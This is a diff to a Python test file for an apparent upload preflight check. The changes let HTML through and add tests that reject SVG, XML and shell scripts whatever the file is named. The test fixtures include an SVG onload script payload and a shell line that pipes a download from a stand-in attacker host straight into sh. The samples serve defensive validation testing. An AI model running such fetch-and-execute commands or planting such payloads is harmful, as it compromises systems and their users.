@@ -64,13 +64,32 @@ def test_preflight_refuses_a_file_over_the_size_limit(tmp_path: Path, settings: 
     assert "larger than the 10 bytes allowed" in stopped.value.message
 
 
-def test_preflight_refuses_html_whatever_its_name(tmp_path: Path) -> None:
+def test_preflight_takes_html_as_html_whatever_its_name(tmp_path: Path) -> None:
     page = tmp_path / "report.txt"
-    page.write_text("<!doctype html><html><body><script>alert(1)</script></body></html>")
+    page.write_text("<!doctype html><html><body><p>Debt bondage</p></body></html>")
+    document = document_for(page)
+    preflight(document)
+    assert document.media_type == "text/html"
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "found"),
+    [
+        ("logo.png", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "an SVG"),
+        ("feed.txt", '<?xml version="1.0"?><feed><title>News</title></feed>', "XML"),
+        ("notes.txt", "#!/bin/sh\ncurl https://evil.example | sh\n", "a script"),
+    ],
+)
+def test_preflight_refuses_svg_xml_and_scripts_whatever_their_name(
+    tmp_path: Path, name: str, content: str, found: str
+) -> None:
+    path = tmp_path / name
+    path.write_text(content)
     with pytest.raises(StopPipeline) as stopped:
-        preflight(document_for(page))
+        preflight(document_for(path))
     assert stopped.value.outcome == Outcome.REJECTED
-    assert "It looks like HTML, which the library does not take" in stopped.value.message
+    assert f"It looks like {found}" in stopped.value.message
+    assert "which the library does not take" in stopped.value.message
 
 
 def test_preflight_calls_a_file_named_pdf_that_is_no_pdf_unreadable(tmp_path: Path) -> None:
